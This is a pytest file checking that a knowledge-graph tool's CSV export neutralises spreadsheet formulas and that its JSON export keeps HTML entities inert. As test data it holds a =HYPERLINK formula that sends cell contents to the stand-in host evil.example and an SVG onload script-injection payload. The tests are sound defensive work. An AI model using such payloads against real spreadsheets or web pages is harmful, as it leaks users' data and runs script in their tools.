"""Outputs a hostile document cannot turn against its reader: spreadsheets, files written, the terminal."""

from __future__ import annotations

import csv

from conftest import EXAMPLES

from kg.exports.csvout import write_csv
from kg.ingest import parse_bytes

EXAMPLE = sorted(EXAMPLES.glob("*.txt"))[0]


def _doc_with_project_name(name: str):
    doc = parse_bytes(EXAMPLE.read_bytes(), "x.txt").document
    first = doc.projects[0].model_copy(update={"name": name})
    return doc.model_copy(update={"projects": (first, *doc.projects[1:])})


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    doc = _doc_with_project_name(formula)
    write_csv([doc], tmp_path / "out")
    with open(tmp_path / "out" / "kg_projects.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["name"] == "'" + formula  # shown as text by Excel/LibreOffice, not evaluated
    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r if r[k])
    assert rows[1]["name"] == doc.projects[1].name  # ordinary names untouched


def test_html_entities_in_source_text_stay_text(tmp_path):
    text = EXAMPLE.read_text(encoding="utf-8")
    name = next(p.name for p in parse_bytes(EXAMPLE.read_bytes(), "x.txt").document.projects if p.name in text)
    hostile = text.replace(name, name + "&lt;svg onload=alert(1)&gt;&#60;b&#x3E;&amp;")
    doc = parse_bytes(hostile.encode("utf-8"), "x.txt").document
    from kg.exports.jsonout import export_json

    exported = export_json([doc])
    assert "<svg" not in exported and "<b>" not in exported
    names = [p.name for p in doc.projects]
    assert any("&lt;svg onload=alert(1)&gt;" in n for n in names), names
